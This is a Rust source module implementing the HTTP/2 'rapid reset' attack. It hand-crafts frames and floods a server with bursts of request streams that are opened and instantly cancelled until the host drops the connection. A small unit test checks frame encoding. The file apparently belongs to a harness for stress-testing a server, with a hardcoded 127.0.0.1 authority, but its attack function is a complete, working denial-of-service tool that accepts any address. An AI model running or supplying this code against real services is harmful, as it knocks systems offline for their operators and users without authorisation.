//! HTTP/2 rapid reset: requests that are cancelled in the packet that made them. Frames by hand, as an attacker would.

use std::io::ErrorKind;
use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Result, bail};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::clients::Tally;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const CANCEL: u32 = 0x8;

/// Streams that are opened and cancelled with one write.
const BURST: u32 = 64;

/// A server that takes no more bytes for that long has stopped listening to us.
const WRITE_TIMEOUT: Duration = Duration::from_secs(2);

/// Opens and cancels streams on one connection until the host ends it.
pub async fn attack(address: SocketAddr, path: &str, tally: &Tally) -> Result<()> {
    let mut stream = timeout(WRITE_TIMEOUT, TcpStream::connect(address)).await??;
    Tally::count(&tally.opened, 1);
    let mut opening = PREFACE.to_vec();
    push_frame(&mut opening, SETTINGS, 0, 0, &[]);
    stream.write_all(&opening).await?;

    let fields = fields(path);
    let mut bytes = Vec::new();
    let mut id: u32 = 1;
    loop {
        bytes.clear();
        for _ in 0..BURST {
            push_frame(&mut bytes, HEADERS, END_STREAM_AND_HEADERS, id, &fields);
            push_frame(&mut bytes, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
            id += 2;
        }
        let written = timeout(WRITE_TIMEOUT, stream.write_all(&bytes)).await;
        if !matches!(written, Ok(Ok(()))) || is_ended(&stream) {
            Tally::count(&tally.ended, 1);
            bail!("the host has ended the connection");
        }
        Tally::count(&tally.sent, u64::from(BURST));
        tokio::task::yield_now().await;
    }
}

/// Takes what the host has sent; true when there is nothing more to come.
fn is_ended(stream: &TcpStream) -> bool {
    let mut input = [0; 16 << 10];
    loop {
        match stream.try_read(&mut input) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => return error.kind() != ErrorKind::WouldBlock,
        }
    }
}

fn push_frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = (payload.len() as u32).to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// `:method GET`, `:scheme http`, `:path` and `:authority`, in HPACK without a table of its own. For short paths.
fn fields(path: &str) -> Vec<u8> {
    const AUTHORITY: &str = "127.0.0.1";
    let mut bytes = vec![0x82, 0x86];
    for (index, value) in [(0x04, path), (0x01, AUTHORITY)] {
        bytes.extend([index, value.len() as u8 & 0x7f]);
        bytes.extend_from_slice(value.as_bytes());
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_laid_out_as_rfc_9113_says() {
        let mut bytes = Vec::new();
        push_frame(&mut bytes, RST_STREAM, 0, 5, &CANCEL.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
        assert_eq!(fields("/x"), *b"\x82\x86\x04\x02/x\x01\x09127.0.0.1");
    }
}
